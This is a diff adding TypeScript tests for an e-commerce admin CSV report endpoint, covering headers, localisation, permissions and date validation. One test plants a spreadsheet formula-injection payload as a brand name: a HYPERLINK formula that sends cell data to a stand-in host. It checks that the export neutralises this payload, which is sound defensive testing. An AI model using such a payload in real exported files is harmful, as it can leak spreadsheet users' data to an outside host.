@@ -182,3 +182,91 @@ describe('the back-office reports', () => {
     expect(res.statusCode).toBe(403);
   });
 });
+
+describe('GET /api/admin/reports.csv', () => {
+  const ctx = useTestApp();
+  const today = tashkentDay(new Date());
+  const hostile = '=HYPERLINK("https://x.example/?d="&A2,"Open")';
+
+  beforeAll(async () => {
+    const { customer } = await createCustomerSession(ctx.db);
+    const category = await createCategory(ctx.db, { nameUz: 'Texnika', nameRu: 'Техника' });
+    const brand = await createBrand(ctx.db, { name: hostile });
+    const other = await createBrand(ctx.db, { name: 'Phone;=1+2' });
+    const tv = await createProduct(ctx.db, { categoryId: category.id, brandId: brand.id });
+    const phone = await createProduct(ctx.db, { categoryId: category.id, brandId: other.id });
+    const [order] = await ctx.db
+      .insert(orders)
+      .values({
+        customerId: customer.id,
+        deliveryUz: 'Toshkent',
+        deliveryRu: 'Ташкент',
+        status: 2,
+        paymentType: 'full',
+        total: 2_500_000,
+      })
+      .returning({ id: orders.id });
+    const line = { orderId: order!.id, nameUz: 'x', nameRu: 'x', image: null };
+    await ctx.db.insert(orderItems).values([
+      { ...line, productId: tv.id, price: 2_000_000, count: 1 },
+      { ...line, productId: phone.id, price: 500_000, count: 1 },
+    ]);
+  });
+
+  const download = async (role: 'content_manager' | 'credit_officer', query: string) => {
+    const staff = await signedInStaff(ctx.app, ctx.db, role);
+    return ctx.app.inject({
+      method: 'GET',
+      url: `/api/admin/reports.csv?${query}`,
+      headers: { ...as(staff), lang: 'ru' },
+    });
+  };
+
+  it('answers the report as a file to save, each brand name guarded against formulas', async () => {
+    const res = await download('content_manager', `kind=sales_by_brand&from=${today}&to=${today}`);
+    expect(res.statusCode, res.body).toBe(200);
+    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(res.headers['content-disposition']).toBe(
+      `attachment; filename="bozor-sales_by_brand-${today}-${today}.csv"`,
+    );
+    expect(res.headers['cache-control']).toBe('private, no-store');
+    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+    expect(res.body.split('\r\n')).toEqual([
+      '\ufeffБренд,Заказы,Штук,"Выручка, сум"',
+      `"'=HYPERLINK(""https://x.example/?d=""&A2,""Open"")",1,1,2000000`,
+      `"Phone;'=1+2",1,1,500000`,
+      'Итого,2,2,2500000',
+      '',
+    ]);
+    // no piece of a line starts a formula, whether a program cuts it at commas or semicolons
+    for (const line of res.body.split('\r\n')) {
+      for (const piece of line.split(/[,;]/)) expect(piece).not.toMatch(/^[ "]*[=+\-@\t\r]/);
+    }
+  });
+
+  it('heads the columns in the staff member’s language', async () => {
+    const staff = await signedInStaff(ctx.app, ctx.db, 'content_manager');
+    const res = await ctx.app.inject({
+      method: 'GET',
+      url: `/api/admin/reports.csv?kind=tariffs&from=${today}&to=${today}`,
+      headers: { ...as(staff), lang: 'uz' },
+    });
+    expect(res.body.split('\r\n').slice(0, 2)).toEqual([
+      '\ufeffTo\'lov,Buyurtmalar,"Tushum, so\'m",Buyurtmalar ulushi',
+      "To'liq to'lov,1,2500000,1",
+    ]);
+  });
+
+  it('is read by staff with the reports permission only, and refuses a wrong range', async () => {
+    const query = `kind=sales_by_day&from=${today}&to=${today}`;
+    expect((await download('credit_officer', query)).statusCode).toBe(403);
+    const anonymous = await ctx.app.inject({ url: `/api/admin/reports.csv?${query}` });
+    expect(anonymous.statusCode).toBe(401);
+    const backwards = await download(
+      'content_manager',
+      `kind=sales_by_day&from=${today}&to=${addDays(today, -1)}`,
+    );
+    expect(backwards.statusCode).toBe(400);
+    expect(backwards.json().errors.to[0]).toBe('Последний день не может быть раньше первого');
+  });
+});
